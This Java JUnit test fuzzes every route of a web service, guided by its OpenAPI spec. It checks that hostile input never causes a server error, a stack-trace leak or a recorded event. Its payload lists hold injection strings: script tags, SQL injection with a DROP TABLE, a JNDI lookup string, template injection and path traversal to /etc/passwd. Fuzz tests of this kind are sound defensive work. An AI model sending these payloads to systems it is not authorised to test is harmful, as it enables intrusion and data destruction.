package iok.platform.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import iok.support.ApiClient;
import iok.support.ApiClient.Response;
import iok.support.DemoCooperative;
import iok.support.TestIok;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * BadInputTest breaks the session and administration bodies field by field; this sends hostile input to
 * every route the node serves, guided by openapi.yaml: each field of each JSON body filled with script,
 * SQL, template and control characters, every field of the wrong type, JSON nested ten thousand deep,
 * ten megabytes, hostile path ids and query values. Every answer is below 500, a refusal is in API.md's
 * error format without stack traces, and a refusal records nothing.
 */
class RouteFuzzTest {

  private static final List<String> HOSTILE = List.of(
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "' OR '1'='1' --",
      "'; DROP TABLE domainevententry; --",
      "${jndi:ldap://example.org/a} {{7*7}}",
      "\u0000\u0007\u001b[2J\u202e",
      "../../../../etc/passwd",
      "\uD800 lone surrogate",
      "9".repeat(400),
      "x".repeat(100_000));
  private static final List<String> HOSTILE_IDS = List.of("%3Cscript%3E", "'%20OR%20'1'%3D'1", "%00", "x".repeat(300),
      "..%2F..%2Fadmin", "-1", "1e309", "%F0%9F%8F%A0");
  /** Streams that never end, and signing out, which would end the session the rest of the cases use. */
  private static final Set<String> SKIPPED = Set.of("get /api/events", "get /api/ws", "post /api/auth/logout");
  private static final Pattern LEAK = Pattern.compile(
      "Exception|\\tat |\\.java:\\d+|\\b(?:java|io\\.vertx|io\\.netty|org\\.axonframework|org\\.postgresql|com\\.fasterxml)\\.[a-z]");

  private static TestIok node;
  private static ApiClient api;
  private static String admin;
  private static String auditor;
  private static String resident;
  private static JsonNode openapi;

  @BeforeAll
  static void start() throws IOException {
    node = TestIok.start();
    api = node.client();
    admin = api.login("sm-prudnik", "admin", TestIok.ADMIN_PASSWORD);
    auditor = api.login("sm-prudnik", "auditor", TestIok.AUDITOR_PASSWORD);
    resident = DemoCooperative.prudnik(node, api).resident(0);
  }

  @AfterAll
  static void stop() {
    if (node != null) node.close();
  }

  record Route(String method, String path, Api.Access access) {
    String key() {
      return method.toLowerCase(Locale.ROOT) + " " + path;
    }

    @Override
    public String toString() {
      return method + " " + path;
    }
  }

  static List<Route> routes() {
    List<Route> routes = new ArrayList<>();
    for (Api.Described d : node.iok().routes()) {
      Route r = new Route(d.method().name(), d.path().replaceAll(":([A-Za-z0-9_]+)", "{$1}"), d.access());
      if (!SKIPPED.contains(r.key()) && routes.stream().noneMatch(x -> x.key().equals(r.key()))) routes.add(r);
    }
    return routes;
  }

  static Stream<Arguments> hostile_bodies() {
    List<Arguments> cases = new ArrayList<>();
    for (Route r : routes()) {
      List<String> fields = bodyFields(r);
      if (fields == null) continue;
      for (String h : HOSTILE) {
        JsonObject body = new JsonObject();
        for (String f : fields) body.put(f, h);
        cases.add(Arguments.of(r, "every field " + shown(h), body.encode()));
      }
      JsonObject wrongTypes = new JsonObject();
      for (String f : fields) wrongTypes.put(f, new JsonObject().put("$gt", new JsonArray().add(1)));
      cases.add(Arguments.of(r, "every field an object", wrongTypes.encode()));
      cases.add(Arguments.of(r, "JSON nested 10,000 deep", "[".repeat(10_000) + "]".repeat(10_000)));
      cases.add(Arguments.of(r, "a script instead of JSON", "<script>alert(1)</script>"));
      cases.add(Arguments.of(r, "10 MB", "{\"" + (fields.isEmpty() ? "x" : fields.getFirst()) + "\":\""
          + "x".repeat(10 * 1024 * 1024) + "\"}"));
    }
    return cases.stream();
  }

  @ParameterizedTest(name = "{0} with {1}")
  @MethodSource("hostile_bodies")
  void hostile_bodies_never_answer_500(Route route, String what, String body) {
    String method = route.method();
    HttpRequest request = api.builder(concrete(route.path(), "00000000-0000-4000-8000-000000000000"), token(route))
        .header("Content-Type", "application/json")
        .method(method, HttpRequest.BodyPublishers.ofString(body)).build();
    check(route, request);
  }

  static Stream<Arguments> hostile_ids() {
    return routes().stream().filter(r -> r.path().contains("{"))
        .flatMap(r -> HOSTILE_IDS.stream().map(id -> Arguments.of(r, id)));
  }

  @ParameterizedTest(name = "{0} with {1}")
  @MethodSource("hostile_ids")
  void hostile_path_ids_answer_4xx(Route route, String id) {
    HttpRequest.Builder b = api.builder(concrete(route.path(), id), token(route));
    b = route.method().equals("GET") || route.method().equals("DELETE") ? b.method(route.method(), HttpRequest.BodyPublishers.noBody())
        : b.header("Content-Type", "application/json").method(route.method(), HttpRequest.BodyPublishers.ofString("{}"));
    Response r = check(route, b.build());
    assertThat(r.status()).as(describe(route, r)).isBetween(400, 499);
  }

  static Stream<Arguments> hostile_queries() {
    List<Arguments> cases = new ArrayList<>();
    for (Route r : routes()) {
      if (!r.method().equals("GET")) continue;
      List<String> names = queryParameters(r);
      if (names.isEmpty()) continue;
      for (String h : HOSTILE.subList(0, 9)) cases.add(Arguments.of(r, names, shown(h), h));
    }
    return cases.stream();
  }

  @ParameterizedTest(name = "{0} with {1} = {2}")
  @MethodSource("hostile_queries")
  void hostile_query_values_never_answer_500(Route route, List<String> names, String shown, String value) {
    StringBuilder query = new StringBuilder();
    for (String n : names) query.append(query.isEmpty() ? "?" : "&").append(n).append('=')
        .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
    HttpRequest request = api.builder(concrete(route.path(), "00000000-0000-4000-8000-000000000000") + query, token(route))
        .GET().build();
    check(route, request);
  }

  private static Response check(Route route, HttpRequest request) {
    long before = node.allEvents();
    Response r = api.send(request);
    assertThat(r.status()).as(describe(route, r)).isLessThan(500);
    String body = r.body() == null ? "" : r.body();
    assertThat(body).as("leak in " + describe(route, r)).doesNotContainPattern(LEAK);
    if (r.status() >= 400) {
      assertThat(r.headers().firstValue("Content-Type").orElse("")).as(describe(route, r)).startsWith("application/json");
      JsonObject json = new JsonObject(body);
      assertThat(json.getString("error")).as(describe(route, r)).matches("[a-z_]+");
      assertThat(json.getString("message")).as(describe(route, r)).isNotBlank();
      assertThat(node.allEvents()).as("events recorded by a refused " + describe(route, r)).isEqualTo(before);
    }
    return r;
  }

  private static String token(Route route) {
    return switch (route.access()) {
      case ANYONE -> null;
      case ADMIN -> admin;
      case AUDITOR -> auditor;
      case SIGNED_IN, FORCED_STEPS -> resident;
    };
  }

  private static String concrete(String template, String id) {
    return template.replaceAll("\\{[A-Za-z]+}", id);
  }

  /** The JSON body's top-level fields as openapi.yaml describes them; null when the route takes no JSON body. */
  private static List<String> bodyFields(Route r) {
    if (r.method().equals("GET")) return null;
    JsonNode op = operation(r);
    JsonNode schema = op.path("requestBody").path("content").path("application/json").path("schema");
    if (schema.isMissingNode()) return r.method().equals("DELETE") ? null : List.of();
    schema = resolve(schema);
    List<String> fields = new ArrayList<>();
    schema.path("properties").fieldNames().forEachRemaining(fields::add);
    return fields;
  }

  private static List<String> queryParameters(Route r) {
    List<String> names = new ArrayList<>();
    for (JsonNode p : operation(r).path("parameters")) {
      JsonNode param = resolve(p);
      if ("query".equals(param.path("in").asText())) names.add(param.path("name").asText());
    }
    return names;
  }

  private static JsonNode operation(Route r) {
    return document().path("paths").path(r.path()).path(r.method().toLowerCase(Locale.ROOT));
  }

  private static JsonNode resolve(JsonNode node) {
    while (node.has("$ref")) {
      JsonNode target = document();
      for (Iterator<String> parts = List.of(node.get("$ref").asText().substring(2).split("/")).iterator(); parts.hasNext(); ) {
        target = target.path(parts.next());
      }
      node = target;
    }
    return node;
  }

  private static synchronized JsonNode document() {
    if (openapi == null) {
      try {
        openapi = new YAMLMapper().readTree(Path.of("webroot/openapi.yaml").toFile());
      } catch (IOException e) {
        throw new java.io.UncheckedIOException(e);
      }
    }
    return openapi;
  }

  private static String shown(String s) {
    String t = s.length() > 30 ? s.substring(0, 12) + "…(" + s.length() + ")" : s;
    StringBuilder b = new StringBuilder();
    t.codePoints().forEach(c -> b.append(c < 0x20 || (c >= 0x7f && c <= 0x9f) || Character.isSurrogate((char) c)
        ? String.format("\\u%04x", c) : Character.toString(c)));
    return b.toString();
  }

  private static String describe(Route route, Response r) {
    String body = r.body() == null ? "" : r.body();
    return route + " → " + r.status() + " " + (body.length() > 300 ? body.substring(0, 300) + "…" : body);
  }
}
